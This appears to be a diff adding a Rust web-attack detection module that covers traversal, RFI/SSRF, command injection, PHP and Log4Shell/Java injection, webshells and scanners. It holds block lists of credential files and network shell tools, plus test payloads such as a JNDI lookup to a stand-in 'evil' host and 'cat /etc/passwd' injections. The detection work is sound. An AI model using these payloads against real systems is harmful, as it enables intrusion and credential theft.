@@ -1,0 +1,1098 @@
+//! The signature-and-structure detectors: traversal/LFI, RFI, OS command
+//! injection, PHP injection, Java (JNDI/Log4Shell, deserialisation, OGNL),
+//! SSRF, webshells and scanners. Inputs are decoded values, lower-cased by
+//! the caller where noted.
+
+/// Files whose names in a request mean local-file inclusion or disclosure.
+const SENSITIVE_FILES: &[&str] = &[
+    "etc/passwd",
+    "etc/shadow",
+    "etc/group",
+    "etc/hosts",
+    "etc/issue",
+    "etc/motd",
+    "etc/crontab",
+    "etc/sudoers",
+    "etc/fstab",
+    "etc/security/",
+    "proc/self/",
+    "proc/version",
+    "proc/cpuinfo",
+    "boot.ini",
+    "win.ini",
+    "system.ini",
+    "windows/system32",
+    "winnt/system32",
+    "system32/drivers",
+    ".htaccess",
+    ".htpasswd",
+    "web.config",
+    "web-inf/",
+    "meta-inf/",
+    ".bash_history",
+    ".ssh/",
+    "id_rsa",
+    "authorized_keys",
+    ".git/",
+    ".svn/",
+    ".env",
+    "wp-config.php",
+    "config.php",
+    "localsettings.php",
+    "/var/log/",
+    "access.log",
+    "error.log",
+    "php.ini",
+    "my.cnf",
+    ".aws/credentials",
+    ".docker",
+    "/root/",
+    "sam",
+    "/usr/local/",
+    "httpd.conf",
+    "nginx.conf",
+    ".bashrc",
+    ".profile",
+    ".mysql_history",
+    "applicationhost.config",
+    "/dev/",
+    "/bin/",
+];
+
+/// Path probes typical of scanners looking for exposed files or admin panels.
+const PROBE_PATHS: &[&str] = &[
+    "/.env",
+    "/.git/",
+    "/.svn/",
+    "/.hg/",
+    "/.ds_store",
+    "/.aws/",
+    "/.ssh/",
+    "/.htpasswd",
+    "/phpmyadmin",
+    "/pma/",
+    "/myadmin",
+    "/server-status",
+    "/server-info",
+    "/actuator",
+    "/manager/html",
+    "/jmx-console",
+    "/web-console",
+    "/invoker/",
+    "/solr/admin",
+    "/hnap1",
+    "/boaform",
+    "/cgi-bin/",
+    "/wp-config",
+    ".bak",
+    ".old",
+    ".swp",
+    "~",
+    ".sql",
+    "/backup",
+    "/config.json",
+    "/phpinfo",
+    "/info.php",
+    "/test.php",
+    "/shell",
+    "/.well-known/security",
+    "/owa/",
+    "/autodiscover",
+    "/vendor/phpunit",
+    "/console",
+    "/debug",
+    "/setup.php",
+    "/install.php",
+    "/xmlrpc.php",
+    "/admin.php",
+    "/administrator/",
+    "/etc/passwd",
+    "/.vscode",
+    "/.idea/",
+    "/composer.json",
+    "/package.json",
+    "/docker-compose",
+    "/dump.sql",
+    "/db.sql",
+];
+
+const SCANNER_UA: &[&str] = &[
+    "sqlmap",
+    "nikto",
+    "nmap",
+    "masscan",
+    "zgrab",
+    "nuclei",
+    "wpscan",
+    "dirbuster",
+    "gobuster",
+    "ffuf",
+    "feroxbuster",
+    "acunetix",
+    "netsparker",
+    "nessus",
+    "openvas",
+    "w3af",
+    "havij",
+    "jaeles",
+    "fimap",
+    "commix",
+    "whatweb",
+    "wfuzz",
+    "arachni",
+    "skipfish",
+    "zmeu",
+    "morfeus",
+    "dirb",
+    "burp",
+    "owasp zap",
+    "zaproxy",
+    "appscan",
+    "webinspect",
+    "qualys",
+    "paros",
+    "grabber",
+    "bsqlbf",
+    "pangolin",
+    "brutus",
+    "hydra",
+    "medusa",
+    "xsser",
+    "joomscan",
+    "droopescan",
+    "nsauditor",
+    "webshag",
+    "httprint",
+    "zgrab",
+    "censys",
+    "internet-measurement",
+    "libwww-perl",
+    "python-httpx",
+    "l9explore",
+    "l9tcpid",
+    "scanbot",
+    "crawlergo",
+    "xray",
+    "interact.sh",
+    "openvas",
+    "sitelock",
+    "mozilla/5.0 sf",
+    "fuzz faster",
+];
+
+/// Known webshell file names.
+const WEBSHELLS: &[&str] = &[
+    "c99",
+    "r57",
+    "c100",
+    "wso",
+    "b374k",
+    "alfa",
+    "filesman",
+    "phpspy",
+    "webshell",
+    "cmd.jsp",
+    "cmd.asp",
+    "cmd.aspx",
+    "cmdasp",
+    "shell.php",
+    "shell.jsp",
+    "shell.aspx",
+    "sh3ll",
+    "indoxploit",
+    "p0wny",
+    "weevely",
+    "china chopper",
+    "chopper",
+    "antsword",
+    "godzilla",
+    "behinder",
+    "bypass.php",
+    "uploader.php",
+    "up.php",
+    "wp-shell",
+    "mini.php",
+    "leaf.php",
+    "r00t",
+    "madspot",
+    "symlink.php",
+    "0byte",
+    "adminer.php",
+    "xleet",
+    "marijuana",
+    "haxor",
+];
+
+/// Parameter names webshells take a command in.
+const SHELL_PARAMS: &[&str] = &[
+    "cmd", "exec", "command", "shell", "execute", "c", "run", "pass", "z0", "act", "action",
+];
+
+/// Shell commands worth running on a server you broke into.
+pub const COMMANDS: &[&str] = &[
+    "cat",
+    "ls",
+    "id",
+    "whoami",
+    "uname",
+    "wget",
+    "curl",
+    "nc",
+    "ncat",
+    "netcat",
+    "bash",
+    "sh",
+    "zsh",
+    "ksh",
+    "csh",
+    "dash",
+    "python",
+    "python3",
+    "perl",
+    "ruby",
+    "php",
+    "ping",
+    "nslookup",
+    "dig",
+    "echo",
+    "rm",
+    "chmod",
+    "chown",
+    "busybox",
+    "powershell",
+    "cmd",
+    "ipconfig",
+    "ifconfig",
+    "net",
+    "netstat",
+    "tftp",
+    "ftp",
+    "telnet",
+    "sleep",
+    "env",
+    "printenv",
+    "pwd",
+    "head",
+    "tail",
+    "more",
+    "less",
+    "find",
+    "grep",
+    "awk",
+    "sed",
+    "xargs",
+    "base64",
+    "tar",
+    "nohup",
+    "kill",
+    "ps",
+    "passwd",
+    "useradd",
+    "crontab",
+    "systeminfo",
+    "tasklist",
+    "type",
+    "dir",
+    "certutil",
+    "bitsadmin",
+    "mshta",
+    "rundll32",
+    "regsvr32",
+    "wmic",
+    "reg",
+    "sc",
+    "whoami.exe",
+    "uname -a",
+    "cp",
+    "mv",
+    "touch",
+    "mkdir",
+    "nmap",
+    "socat",
+    "java",
+    "node",
+    "gcc",
+    "exec",
+    "eval",
+    "expr",
+    "hostname",
+    "ver",
+    "vol",
+    "timeout",
+    "start",
+    "bitsadmin",
+    "curl.exe",
+    "wget.exe",
+    "od",
+    "xxd",
+    "dd",
+    "ln",
+    "uptime",
+    "w",
+    "who",
+    "last",
+    "mail",
+    "sudo",
+    "su",
+    "openssl",
+    "lua",
+    "tclsh",
+    "wscript",
+    "cscript",
+    "diff",
+    "nl",
+    "tac",
+    "rev",
+    "strings",
+    "sort",
+    "uniq",
+    "cut",
+    "tr",
+];
+
+fn is_command(w: &str) -> bool {
+    let w = w.trim_matches(|c: char| c == '"' || c == '\'' || c == '`' || c == '(' || c == '{');
+    let base = w.rsplit(['/', '\\']).next().unwrap_or(w);
+    let base = base.strip_suffix(".exe").unwrap_or(base);
+    !base.is_empty() && COMMANDS.contains(&base)
+}
+
+/// Shell de-obfuscation: quotes and backslashes inside words (`c\at`,
+/// `c''at`, `c"a"t`), `$@`, `${IFS}`/`$IFS$9` → space, `$()`-less globs.
+pub fn shell_fold(s: &str) -> String {
+    let s = s
+        .replace("${ifs}", " ")
+        .replace("$ifs$9", " ")
+        .replace("$ifs", " ")
+        .replace("$@", "")
+        .replace("$*", "")
+        .replace("''", "")
+        .replace("\"\"", "")
+        .replace("\\\n", "");
+    let mut out = String::with_capacity(s.len());
+    let b = s.as_bytes();
+    for (i, c) in s.char_indices() {
+        if c == '\\' && b.get(i + 1).is_some_and(|n| n.is_ascii_alphanumeric()) {
+            continue;
+        }
+        out.push(c);
+    }
+    out
+}
+
+/// Path traversal / LFI on a decoded, lower-cased value.
+pub fn traversal(l: &str) -> Option<(f32, &'static str)> {
+    let norm = l.replace('\\', "/");
+    let dots = norm.matches("../").count()
+        + norm.matches("/..").count() / 2
+        + norm.matches("..;/").count();
+    let file = SENSITIVE_FILES.iter().find(|f| norm.contains(*f));
+    if dots >= 1 && file.is_some() {
+        return Some((0.95, "traversal to sensitive file"));
+    }
+    if norm.contains("..%") || norm.contains("..\u{fffd}") {
+        return Some((0.7, "traversal with residual encoding"));
+    }
+    if dots >= 2 {
+        return Some((0.85, "repeated ../"));
+    }
+    if dots == 1
+        && (norm.starts_with("../")
+            || norm.starts_with("/../")
+            || norm.contains("=../")
+            || norm.ends_with("/.."))
+    {
+        return Some((0.6, "../ at value start"));
+    }
+    if let Some(f) = file {
+        // An absolute path to a system file given as a value (`?file=/etc/passwd`).
+        let abs =
+            norm.starts_with('/') || norm.get(1..3) == Some(":/") || norm.starts_with("file:");
+        if abs && !matches!(*f, "sam" | "/dev/" | "/bin/" | "~" | "config.php" | ".env") {
+            return Some((0.8, "absolute path to sensitive file"));
+        }
+    }
+    for w in [
+        "php://filter",
+        "php://input",
+        "zip://",
+        "phar://",
+        "expect://",
+        "file://",
+        "glob://",
+        "compress.zlib://",
+        "data://text/plain",
+    ] {
+        if norm.contains(w) {
+            return Some((0.85, "stream wrapper"));
+        }
+    }
+    if norm.contains('\0') && (norm.contains("../") || file.is_some()) {
+        return Some((0.9, "null-byte truncation"));
+    }
+    None
+}
+
+fn host_of(url_rest: &str) -> &str {
+    let end = url_rest
+        .find(['/', '?', '#', '\\'])
+        .unwrap_or(url_rest.len());
+    let h = &url_rest[..end];
+    let h = h.rsplit('@').next().unwrap_or(h);
+    if h.starts_with('[') {
+        return h
+            .split(']')
+            .next()
+            .map(|x| x.trim_start_matches('['))
+            .unwrap_or(h);
+    }
+    h.split(':').next().unwrap_or(h)
+}
+
+fn internal_host(h: &str) -> bool {
+    if matches!(
+        h,
+        "localhost"
+            | "0"
+            | "0.0.0.0"
+            | "::1"
+            | "::"
+            | "metadata.google.internal"
+            | "metadata"
+            | "instance-data"
+            | "127.1"
+            | "0177.0.0.1"
+            | "0x7f.0.0.1"
+            | "2130706433"
+            | "0x7f000001"
+            | "017700000001"
+    ) || h.ends_with(".internal")
+        || h.ends_with(".local")
+        || h.ends_with("localtest.me")
+        || h.ends_with("nip.io")
+        || h.ends_with(".localhost")
+    {
+        return true;
+    }
+    match h.parse::<std::net::IpAddr>() {
+        Ok(std::net::IpAddr::V4(v)) => {
+            v.is_loopback() || v.is_private() || v.is_link_local() || v.is_unspecified()
+        }
+        Ok(std::net::IpAddr::V6(v)) => {
+            v.is_loopback() || v.is_unspecified() || (v.segments()[0] & 0xfe00) == 0xfc00
+        }
+        Err(_) => false,
+    }
+}
+
+/// RFI and SSRF from a URL-valued parameter (decoded, lower-cased).
+pub fn url_param(
+    name: &str,
+    l: &str,
+    site: Option<&str>,
+) -> Vec<(crate::detect::web::Class, f32, &'static str)> {
+    use crate::detect::web::Class;
+    let mut out = Vec::new();
+    let v = l.trim();
+    let Some((scheme, rest)) = v.split_once("://") else {
+        return out;
+    };
+    let scheme = scheme.trim();
+    if scheme.is_empty()
+        || !scheme
+            .bytes()
+            .all(|c| c.is_ascii_alphanumeric() || c == b'.' || c == b'+' || c == b'-')
+    {
+        return out;
+    }
+    let host = host_of(rest);
+    if matches!(
+        scheme,
+        "gopher" | "dict" | "ldap" | "tftp" | "jar" | "netdoc" | "sftp"
+    ) {
+        out.push((Class::Ssrf, 0.85, "SSRF scheme"));
+    } else if internal_host(host) && matches!(scheme, "http" | "https" | "ftp" | "ftps") {
+        out.push((Class::Ssrf, 0.85, "URL to internal host"));
+    }
+    if matches!(scheme, "http" | "https" | "ftp" | "ftps") {
+        let ip_host = host.parse::<std::net::IpAddr>().is_ok();
+        let include_param = matches!(
+            name,
+            "include"
+                | "inc"
+                | "file"
+                | "page"
+                | "path"
+                | "template"
+                | "require"
+                | "load"
+                | "dir"
+                | "document_root"
+                | "root"
+                | "folder"
+                | "mod"
+                | "module"
+                | "conf"
+                | "config"
+                | "pg"
+                | "style"
+                | "pdf"
+                | "doc"
+                | "lang"
+                | "language"
+                | "site"
+                | "show"
+                | "nav"
+                | "content"
+                | "layout"
+                | "cat"
+                | "action"
+                | "board"
+                | "date"
+                | "detail"
+                | "download"
+                | "prefix"
+                | "read"
+                | "view"
+                | "home"
+                | "mosconfig_absolute_path"
+                | "phpbb_root_path"
+                | "base_path"
+                | "abspath"
+        );
+        let trailing =
+            v.ends_with('?') || v.ends_with("?\0") || v.ends_with('\0') || v.contains('\0');
+        let script = [".txt", ".php", ".inc", ".gif?", ".jpg?"]
+            .iter()
+            .any(|e| v.ends_with(e) || v.contains(&format!("{e}?")));
+        let off_site = site.is_some_and(|s| !host.is_empty() && host != s.to_ascii_lowercase());
+        if ip_host && !internal_host(host) {
+            out.push((Class::Rfi, 0.85, "URL with IP address in parameter"));
+        } else if trailing {
+            out.push((Class::Rfi, 0.85, "URL with trailing ? or NUL"));
+        } else if include_param && (script || off_site) {
+            out.push((Class::Rfi, 0.8, "URL in include-like parameter"));
+        } else if include_param || script && off_site {
+            out.push((Class::Rfi, 0.55, "off-site URL in parameter"));
+        }
+    }
+    out
+}
+
+/// OS command injection on a decoded, lower-cased value.
+pub fn rce(l: &str) -> Option<(f32, &'static str)> {
+    if l.contains("() {") && (l.contains(";") || l.contains("}")) {
+        return Some((0.95, "shellshock function definition"));
+    }
+    let f = shell_fold(l);
+    // Command after a separator: ; | || && ` $( newline
+    let b = f.as_bytes();
+    let seps: &[&str] = &[";", "|", "&", "`", "$(", "\n", "\r", "${", "<(", ">("];
+    for sep in seps {
+        for (i, _) in f.match_indices(sep) {
+            let mut rest = f[i + sep.len()..].trim_start_matches(|c: char| {
+                c == '|' || c == '&' || c == ' ' || c == '\t' || c == '{' || c == '('
+            });
+            // `;/bin/cat`, `;/usr/bin/id`, `|/???/c?t`
+            if rest.starts_with('/')
+                && (rest.starts_with("/bin/")
+                    || rest.starts_with("/usr/")
+                    || rest.starts_with("/???")
+                    || rest.starts_with("/sbin/")
+                    || rest.starts_with("/?"))
+            {
+                return Some((0.9, "command path after separator"));
+            }
+            rest = rest.trim_start_matches(['"', '\'']);
+            let word: String = rest
+                .chars()
+                .take_while(|c| {
+                    c.is_ascii_alphanumeric()
+                        || matches!(c, '.' | '_' | '-' | '/' | '\\' | '?' | '*')
+                })
+                .collect();
+            if !word.is_empty() && is_command(&word) {
+                let after = &rest[word.len()..];
+                let args = after.is_empty()
+                    || after.starts_with([
+                        ' ', '\t', '+', '<', '>', '|', ';', '&', '`', ')', '$', '-', '"', '\'',
+                        '\n', '}', '/', ',',
+                    ]);
+                // `a=1&id=2`: `&` followed by a parameter, not a command.
+                let is_param = *sep == "&" && after.starts_with('=');
+                if args
+                    && !is_param
+                    && !(i > 0
+                        && *sep == "&"
+                        && b.get(i - 1).is_some_and(|c| c.is_ascii_alphanumeric())
+                        && after.is_empty())
+                {
+                    return Some((0.9, "command after shell separator"));
+                }
+            }
+        }
+    }
+    // Whole value is a command with shell-looking arguments (`cat /etc/passwd`, `wget http://…|sh`).
+    let first: String = f
+        .trim_start()
+        .chars()
+        .take_while(|c| !c.is_whitespace())
+        .collect();
+    if is_command(&first) && first.len() > 1 {
+        let rest = f.trim_start()[first.len()..].trim_start();
+        if rest.starts_with('-') && rest.len() > 1 && (rest.contains(' ') || rest.len() < 4)
+            || rest.starts_with('/') && rest.len() > 1
+            || rest.contains("http://")
+                && (rest.contains('|') || rest.contains(';') || rest.contains("-o"))
+            || rest.contains("/dev/tcp")
+        {
+            return Some((0.75, "command line"));
+        }
+    }
+    if f.contains("/dev/tcp/")
+        || f.contains("/bin/sh")
+        || f.contains("/bin/bash")
+        || f.contains("cmd.exe")
+        || f.contains("cmd /c")
+        || f.contains("powershell -")
+        || f.contains("powershell.exe")
+        || f.contains("nc -e")
+    {
+        return Some((0.85, "shell invocation"));
+    }
+    None
+}
+
+const PHP_FUNCS: &[&str] = &[
+    "eval",
+    "assert",
+    "system",
+    "passthru",
+    "shell_exec",
+    "exec",
+    "popen",
+    "proc_open",
+    "base64_decode",
+    "gzinflate",
+    "gzuncompress",
+    "str_rot13",
+    "file_get_contents",
+    "file_put_contents",
+    "fopen",
+    "fwrite",
+    "fputs",
+    "include",
+    "include_once",
+    "require",
+    "require_once",
+    "preg_replace",
+    "create_function",
+    "call_user_func",
+    "call_user_func_array",
+    "phpinfo",
+    "chr",
+    "pcntl_exec",
+    "move_uploaded_file",
+    "unserialize",
+    "readfile",
+    "show_source",
+    "highlight_file",
+    "var_dump",
+    "print_r",
+    "array_map",
+    "array_filter",
+    "usort",
+    "uasort",
+    "ob_start",
+    "posix_getpwuid",
+    "symlink",
+    "ini_set",
+    "set_time_limit",
+    "getenv",
+    "putenv",
+    "curl_exec",
+    "fsockopen",
+    "pfsockopen",
+    "mail",
+    "dl",
+    "scandir",
+    "glob",
+    "opendir",
+    "unlink",
+    "rmdir",
+    "mkdir",
+    "copy",
+    "rename",
+    "chmod",
+    "touch",
+    "file",
+    "parse_str",
+    "extract",
+    "mb_ereg_replace",
+    "iconv",
+    "hex2bin",
+    "strrev",
+    "gzdecode",
+    "md5",
+    "die",
+    "exit",
+];
+
+/// PHP / code injection on a decoded, lower-cased value.
+pub fn php(l: &str) -> Option<(f32, &'static str)> {
+    if l.contains("<?php") || l.contains("<?=") || (l.contains("<?") && l.contains("?>")) {
+        return Some((0.95, "PHP open tag"));
+    }
+    for v in [
+        "$_get",
+        "$_post",
+        "$_request",
+        "$_server",
+        "$_cookie",
+        "$_files",
+        "$_env",
+        "$_session",
+        "$globals",
+        "php://input",
+        "php://filter",
+        "allow_url_include",
+        "auto_prepend_file",
+        "auto_append_file",
+        "disable_functions",
+        "safe_mode",
+        "open_basedir",
+    ] {
+        if l.contains(v) {
+            return Some((0.85, "PHP superglobal or setting"));
+        }
+    }
+    // Serialized PHP objects: O:8:"stdClass":1:{…}
+    let b = l.as_bytes();
+    for (i, _) in l.match_indices("o:") {
+        if (i == 0 || !b[i - 1].is_ascii_alphanumeric())
+            && b.get(i + 2).is_some_and(|c| c.is_ascii_digit())
+            && l[i..].contains(":{")
+            && l[i..].contains("\":")
+        {
+            return Some((0.85, "serialized PHP object"));
+        }
+    }
+    for (i, _) in l.match_indices('(') {
+        let head = &l[..i];
+        let head = head.trim_end();
+        let w_start = head
+            .char_indices()
+            .rev()
+            .find(|(_, c)| !(c.is_ascii_alphanumeric() || *c == '_'))
+            .map(|(p, c)| p + c.len_utf8())
+            .unwrap_or(0);
+        let w = &head[w_start..];
+        if PHP_FUNCS.contains(&w) {
+            let prev = head[..w_start].trim_end();
+            let ctx_ok = prev.is_empty()
+                || prev.ends_with([
+                    ';', '@', '(', '.', '=', '{', '}', '?', '>', ',', '"', '\'', '|', '&', '!',
+                ])
+                || prev.ends_with("echo")
+                || prev.ends_with("print")
+                || prev.ends_with("return");
+            let arg = l[i + 1..].trim_start();
+            let arg_ok = arg.starts_with(['$', '"', '\'', '(', ')', '@', '_'])
+                || arg.starts_with(|c: char| c.is_ascii_alphabetic())
+                    && (arg.contains('(') || arg.contains(')'));
+            if ctx_ok
+                && arg_ok
+                && !matches!(
+                    w,
+                    "file"
+                        | "copy"
+                        | "die"
+                        | "exit"
+                        | "md5"
+                        | "mail"
+                        | "glob"
+                        | "chr"
+                        | "touch"
+                        | "rename"
+                )
+            {
+                return Some((0.85, "PHP function call"));
+            }
+        }
+    }
+    // Variable functions: $x($y), ${…}
+    if l.contains("$")
+        && (l.contains(")(") || l.contains("${") && l.contains('}') && l.contains('('))
+        && (l.contains(';') || l.contains('"'))
+    {
+        return Some((0.6, "PHP variable function"));
+    }
+    None
+}
+
+/// Log4Shell lookups with nested obfuscation folded: `${lower:j}` → `j`,
+/// `${::-j}` → `j`, `${env:X:-j}` → `j`, `${upper:J}` → `j`. Lower-cased input.
+pub fn fold_lookups(l: &str) -> String {
+    let mut s = l.to_owned();
+    for _ in 0..8 {
+        let Some(start) = find_inner_lookup(&s) else {
+            break;
+        };
+        let Some(len) = s[start..].find('}') else {
+            break;
+        };
+        let inner = &s[start + 2..start + len];
+        let repl = if let Some(p) = inner.rfind(":-") {
+            inner[p + 2..].to_owned()
+        } else if let Some(x) = inner
+            .strip_prefix("lower:")
+            .or_else(|| inner.strip_prefix("upper:"))
+        {
+            x.to_owned()
+        } else if let Some(x) = inner.strip_prefix("jndi:") {
+            // Keep jndi lookups; mark so the loop ends.
+            format!("\u{1}jndi:{x}")
+        } else if let Some(x) = inner.strip_prefix("date:") {
+            x.trim_matches('\'').to_owned()
+        } else {
+            inner.to_owned()
+        };
+        s.replace_range(start..start + len + 1, &repl);
+    }
+    s.replace('\u{1}', "${")
+}
+
+/// Start of a `${…}` with no `${` inside it.
+fn find_inner_lookup(s: &str) -> Option<usize> {
+    let mut best = None;
+    for (i, _) in s.match_indices("${") {
+        let close = s[i..].find('}')?;
+        if !s[i + 2..i + close].contains("${") && !s[i + 2..].starts_with("jndi:") {
+            best = Some(i);
+            break;
+        }
+    }
+    best
+}
+
+/// Java attacks: JNDI lookups, deserialisation gadgets, OGNL/SpEL, class loading.
+pub fn java(raw: &str, l: &str) -> Option<(f32, &'static str)> {
+    if l.contains("${") || l.contains("%24%7b") {
+        let f = fold_lookups(l);
+        if f.contains("${jndi:")
+            || f.contains("jndi:ldap")
+            || f.contains("jndi:rmi")
+            || f.contains("jndi:dns")
+        {
+            return Some((0.95, "JNDI lookup (Log4Shell)"));
+        }
+        if f.contains("${")
+            && (f.contains("${env:")
+                || f.contains("${sys:")
+                || f.contains("${java:")
+                || f.contains("${main:")
+                || f.contains("${ctx:")
+                || f.contains("${base64:")
+                || f.contains("${bundle:")
+                || f.contains("${k8s:")
+                || f.contains("${docker:")
+                || f.contains("${spring:")
+                || f.contains("${log4j:")
+                || f.contains("${web:")
+                || f.contains("${script:"))
+        {
+            return Some((0.8, "Log4j lookup"));
+        }
+    }
+    if raw.contains("rO0AB")
+        || raw.contains("\u{ac}\u{ed}\u{0}\u{5}")
+        || l.contains("aced0005")
+        || raw.contains("H4sIAAAAAAAA") && l.contains("ro0")
+    {
+        return Some((0.9, "Java serialized object"));
+    }
+    for k in [
+        "java.lang.runtime",
+        "java.lang.processbuilder",
+        "java.lang.system",
+        "java.lang.class",
+        "java.lang.reflect",
+        "java.io.file",
+        "java.net.url",
+        "java.net.socket",
+        "javax.script",
+        "javax.naming",
+        "getruntime(",
+        ".getruntime",
+        "processbuilder",
+        "classloader",
+        "getclass(",
+        "forname(",
+        "newinstance(",
+        "getmethod(",
+        "invoke(",
+        "org.apache.commons.collections",
+        "invokertransformer",
+        "chainedtransformer",
+        "constanttransformer",
+        "instantiatetransformer",
+        "templatesimpl",
+        "com.sun.org.apache",
+        "org.springframework",
+        "xalan",
+        "bsh.interpreter",
+        "groovy.lang",
+        "ognl",
+        "#_memberaccess",
+        "@ognl",
+        "#context",
+        "xwork",
+        "class.module.classloader",
+        "class.classloader",
+        "getruntime().exec",
+        "runtime.exec",
+        "t(java.",
+        "jdk.jshell",
+        "com.sun.rowset",
+        "jdbcrowsetimpl",
+        "c3p0",
+        "rmiconnector",
+        "jndiref",
+        "java.util.scanner",
+        "java.beans.xmldecoder",
+        "xmldecoder",
+        "<java",
+        "java.lang.",
+        "clonetransformer",
+        "forclosure",
+        "instantiatefactory",
+        "nativeinvoker",
+        "java.lang.thread",
+        "sun.misc",
+        "getdeclaredmethod",
+        "getdeclaredfield",
+        "setaccessible",
+    ] {
+        if l.contains(k) {
+            return Some((0.85, "Java class or method"));
+        }
+    }
+    if (l.contains("%{") || l.contains("${"))
+        && (l.contains("#") || l.contains("@java"))
+        && l.contains('(')
+    {
+        return Some((0.8, "OGNL expression"));
+    }
+    // Base64 of "runtime", "processbuilder", "classloader" at the three alignments.
+    for k in [
+        "cnVudGltZ",
+        "J1bnRpbW",
+        "ydW50aW1l",
+        "HJvY2Vzc2J1aWxkZXI",
+        "Byb2Nlc3NCdWlsZGVy",
+        "wcm9jZXNzYnVpbGRlc",
+        "Y2xhc3Nsb2FkZX",
+        "NsYXNzbG9hZGVy",
+        "jbGFzc2xvYWRlc",
+        "UnVudGltZ",
+        "J1bnRpbWU",
+        "SdW50aW1l",
+        "UHJvY2Vzc0J1aWxkZX",
+        "Byb2Nlc3NCdWlsZGVy",
+        "Qcm9jZXNzQnVpbGRlc",
+    ] {
+        if raw.contains(k) {
+            return Some((0.8, "base64 Java class name"));
+        }
+    }
+    None
+}
+
+/// Webshell access: known names in the path, or a script given a command parameter.
+pub fn webshell(path_l: &str, params: &[(String, String)]) -> Option<(f32, &'static str)> {
+    let file = path_l.rsplit('/').next().unwrap_or(path_l);
+    let script = [
+        ".php", ".asp", ".aspx", ".jsp", ".jspx", ".cgi", ".pl", ".ashx", ".cfm", ".phtml",
+    ]
+    .iter()
+    .any(|e| file.ends_with(e));
+    if WEBSHELLS.iter().any(|w| file.contains(w)) && (script || !file.contains('.')) {
+        return Some((0.85, "known webshell name"));
+    }
+    if script || file.is_empty() || !file.contains('.') {
+        for (k, v) in params {
+            if SHELL_PARAMS.contains(&k.as_str()) {
+                let first = v.split_whitespace().next().unwrap_or("");
+                if is_command(first)
+                    && (v.contains(' ')
+                        || matches!(
+                            first,
+                            "id" | "whoami"
+                                | "ls"
+                                | "pwd"
+                                | "uname"
+                                | "ipconfig"
+                                | "ifconfig"
+                                | "dir"
+                                | "hostname"
+                        ))
+                {
+                    return Some((0.85, "command in webshell parameter"));
+                }
+            }
+        }
+    }
+    None
+}
+
+/// Scanner signals of one request: a tool's user agent or a sensitive-path probe.
+pub fn scanner(ua_l: Option<&str>, path_l: &str) -> Option<(f32, &'static str)> {
+    if let Some(ua) = ua_l
+        && let Some(_) = SCANNER_UA.iter().find(|t| ua.contains(*t))
+    {
+        return Some((0.9, "scanner user agent"));
+    }
+    if probe_path(path_l) {
+        return Some((0.5, "sensitive path probe"));
+    }
+    None
+}
+
+/// Whether a (lower-cased, decoded) path is a probe for something sensitive.
+pub fn probe_path(path_l: &str) -> bool {
+    PROBE_PATHS.iter().any(|p| {
+        if p.starts_with('.') || *p == "~" {
+            path_l.ends_with(p)
+        } else {
+            path_l.contains(p)
+        }
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn classes() {
+        assert!(traversal("../../../etc/passwd").is_some());
+        assert!(traversal("....//....//etc/passwd").is_some());
+        assert!(traversal("/images/logo.png").is_none());
+        assert!(rce("x;cat /etc/passwd").is_some());
+        assert!(rce("1|c\\at${ifs}/etc/passwd").is_some());
+        assert!(rce("a=1&id=2").is_none());
+        assert!(rce("tom & jerry").is_none());
+        assert!(php("<?php system($_get['c']); ?>").is_some());
+        assert!(php("phpinfo()").is_some());
+        assert!(php("i like php (a lot)").is_none());
+        assert!(java("x", "${jndi:ldap://evil/a}").is_some());
+        assert!(java("x", "${${lower:j}${::-n}di:ldap://evil/a}").is_some());
+        assert!(java("x", "${${env:foo:-j}ndi:ldap://x}").is_some());
+        assert!(java("x", "hello world").is_none());
+        assert!(webshell("/uploads/c99.php", &[]).is_some());
+        assert!(webshell("/x.php", &[("cmd".into(), "cat /etc/passwd".into())]).is_some());
+        assert!(scanner(Some("sqlmap/1.7"), "/").is_some());
+        assert!(scanner(None, "/.git/config").is_some());
+        assert!(scanner(Some("mozilla/5.0"), "/index.html").is_none());
+    }
+}
